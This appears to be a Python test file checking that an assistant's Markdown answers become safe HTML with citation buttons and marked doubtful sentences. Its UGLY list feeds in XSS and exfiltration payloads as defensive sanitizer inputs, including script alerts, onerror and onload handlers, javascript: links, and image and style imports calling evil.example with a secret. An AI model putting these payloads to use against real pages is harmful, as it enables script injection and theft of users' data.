"""An answer's Markdown becomes HTML that runs and fetches nothing, with each mark tied to its own quote."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.answers import Citation, Flag, Verdict
from assistant.web.marking import answer_html, attribute, linked
from ingest.papers import Paper

LAMPS = Paper("aa", "Lamps <b>glow</b>", "Lamps glow. They gain 4%. They cost 3 dollars.")
MOONS = Paper("bb", "Moons", "Moons shine. They wane.")

HARMLESS = {"p", "em", "strong", "ul", "ol", "li", "code", "pre", "blockquote", "hr", "br", "span", "button", "a"}
HARMLESS |= {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = {
    "class",
    "type",
    "title",
    "data-open",
    "data-cites",
    "aria-label",
    "href",
    "target",
    "rel",
    "start",
    "style",
}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.doubted = ""
        self._inside: list[bool] = []
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag != "br":
            self._inside.append(("class", "doubt") in attrs)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src")]

    def handle_endtag(self, tag: str) -> None:
        if self._inside:
            self._inside.pop()

    def handle_data(self, data: str) -> None:
        self.doubted += data if any(self._inside) else ""


def _doubted(html: str) -> str:
    return _tags(html).doubted


def _unmarked(html: str) -> str:
    return re.sub(r"</?span[^>]*>", "", html)


def _tags(html: str) -> _Tags:
    parser = _Tags()
    parser.feed(html)
    return parser


def _cite(number: int, paper: Paper, quote: str, sentence: str = "", **more: object) -> Citation:
    start = paper.abstract.index(quote)
    return Citation(number, paper, quote, start, start + len(quote), sentence=sentence, **more)  # type: ignore[arg-type]


UGLY = {
    "script": "<script>alert(1)</script> [1]",
    "handler": '<img src=x onerror="alert(1)">',
    "image": "![x](https://evil.example/?q=secret)",
    "image-reference": "![x][y]\n\n[y]: https://evil.example/i.png",
    "link": "[press](javascript:alert(1)) [press](https://evil.example)",
    "mark-as-reference": "Lamps glow [1].\n\n[1]: https://evil.example",
    "autolink": "<https://evil.example> <javascript:alert(1)>",
    "style": "<style>@import 'https://evil.example'</style>",
    "comment": "<!-- [1] --> <svg/onload=alert(1)>",
    "address-with-quotes": 'https://a.example/"onmouseover="alert(1) x',
    "private-characters": "a \ue000 b \ue001 c",
}


@pytest.mark.parametrize("text", UGLY.values(), ids=UGLY)
def test_nothing_of_an_answer_is_html(text: str) -> None:
    found = _tags(answer_html(text, [_cite(1, LAMPS, "Lamps glow.")]))
    assert found.tags <= HARMLESS
    assert found.attributes <= ATTRIBUTES
    assert all(address.startswith(("http://", "https://")) for address in found.addresses)


@given(st.text(alphabet=st.sampled_from("ab[]()!<>\"'&*_`#|\\\n:/-1\ue000\ue001"), max_size=80))
def test_no_text_whatever_gives_another_tag(text: str) -> None:
    found = _tags(answer_html(text, [_cite(1, LAMPS, "Lamps glow.", "ab")]))
    assert found.tags <= HARMLESS
    assert found.attributes <= ATTRIBUTES


def test_a_mark_is_a_button_that_names_its_source() -> None:
    html = answer_html("Lamps glow [1].", [_cite(1, LAMPS, "Lamps glow.")])
    assert 'data-open="1"' in html
    assert 'data-cites="0"' in html
    assert "Source 1: Lamps &lt;b&gt;glow&lt;/b&gt;" in html
    assert ">[1]</button>" in html


def test_a_mark_without_a_citation_opens_nothing() -> None:
    assert "<button" not in answer_html("Lamps glow [7].", [])
    assert "[7]" in answer_html("Lamps glow [7].", [])


def test_marks_of_one_paper_stand_each_for_its_own_quote() -> None:
    citations = [_cite(1, LAMPS, "Lamps glow."), _cite(2, MOONS, "They wane."), _cite(1, LAMPS, "They gain 4%.")]
    html = answer_html("Lamps glow [1]. They wane [2]. They gain 4% [1].", citations)
    assert re.findall(r'data-cites="([\d ]+)"', html) == ["0", "1", "2"]


def test_where_counts_differ_the_sentence_decides() -> None:
    citations = [
        _cite(1, LAMPS, "Lamps glow.", "Lamps glow and gain [1]."),
        _cite(1, LAMPS, "They gain 4%.", "Lamps glow and gain [1]."),
        _cite(1, LAMPS, "They cost 3 dollars.", "They cost 3 [1]."),
    ]
    marks = list(attribute("Lamps glow and gain [1]. They cost 3 [1].", citations))
    assert [mark.citations for mark in marks] == [(0, 1), (2,)]


def test_a_number_in_code_is_no_mark() -> None:
    html = answer_html("`a[1]` and [1]", [_cite(1, LAMPS, "Lamps glow.")])
    assert "<code>a[1]</code>" in html
    assert html.count("<button") == 1


def test_an_unsupported_sentence_is_marked_with_its_reason() -> None:
    sentence = "They gain **99%** [1]."
    doubt = _cite(1, LAMPS, "They gain 4%.", sentence, verdict=Verdict.UNSUPPORTED, reason='99% isn\'t "there"')
    html = answer_html(f"Lamps glow. {sentence} More.", [doubt])
    assert '<span class="doubt" title="99% isn&#x27;t &quot;there&quot;">They gain </span><strong>' in html
    assert _doubted(html) == "They gain 99% [1]."
    assert "doubted" in html


def test_lists_and_tables_are_read() -> None:
    html = answer_html("- Lamps [1]\n- Moons\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert html.count("<li>") == 2
    assert "<td>2</td>" in html


def test_visible_addresses_become_links_that_tell_nobody_where_they_were() -> None:
    html = linked("Code: https://github.com/a/b. <b>")
    assert 'href="https://github.com/a/b" target="_blank" rel="noopener noreferrer nofollow"' in html
    assert html.endswith("</a>. &lt;b&gt;")


def test_a_flagged_sentence_is_found_between_marks_and_markdown() -> None:
    html = answer_html("- Lamps **glow** at `night` [1], [2]. Moons wane.", flags=[Flag("Lamps glow at night.", "why")])
    assert _doubted(html) == "Lamps glow at night [1], [2]."


@pytest.mark.parametrize(
    ("text", "sentence", "doubted"),
    [
        ("_0_ gains. Lamps glow.", "_0_ gains.", "0 gains."),
        ("**They gain. They lose.** More.", "**They gain.", "They gain."),
        ("They gain. *They lose.* More.", "*They lose.*", "They lose."),
        ("1. They gain 4%. More.\n2. Lamps.", "1. They gain 4%.", "They gain 4%."),
        ("They gain &lt; 4 &amp; glow. More.", "They gain &lt; 4 &amp; glow.", "They gain < 4 & glow."),
        ("| a | b |\n|---|---|\n| Lamps **glow** | at night |", "Lamps glow at night", "Lamps glowat night"),
        ("`a[1]` glows. More.", "a[1] glows.", "a[1] glows."),
    ],
    ids=["emphasis-first", "within-strong", "emphasis-last", "list", "entities", "table-row", "code"],
)
def test_a_sentence_in_doubt_is_marked_whatever_markdown_it_has(text: str, sentence: str, doubted: str) -> None:
    html = answer_html(text, flags=[Flag(sentence, "why")])
    assert _doubted(html) == doubted
    assert _unmarked(html) == _unmarked(answer_html(text))


def test_sentences_in_doubt_that_overlap_are_each_marked() -> None:
    html = answer_html(
        "Lamps glow and gain, and cost 3.", flags=[Flag("Lamps glow and gain", "x"), Flag("gain, and cost 3", "y")]
    )
    assert _doubted(html) == "Lamps glow and gain, and cost 3."
    assert '<span class="doubt" title="y"> and cost 3.</span>' in html


def test_a_flag_that_stands_nowhere_changes_nothing() -> None:
    assert answer_html("Lamps glow.", flags=[Flag("Moons wane.", "why"), Flag("", "")]) == answer_html("Lamps glow.")


_MARKDOWN = st.text(max_size=60) | st.text(alphabet=st.sampled_from("ab01_*`[]|\n.-> &;<#~\\"), max_size=60)


@given(_MARKDOWN, _MARKDOWN)
def test_a_flag_changes_nothing_of_the_answer_but_its_marking(text: str, sentence: str) -> None:
    assert _unmarked(answer_html(text, flags=[Flag(sentence, "")])) == _unmarked(answer_html(text))
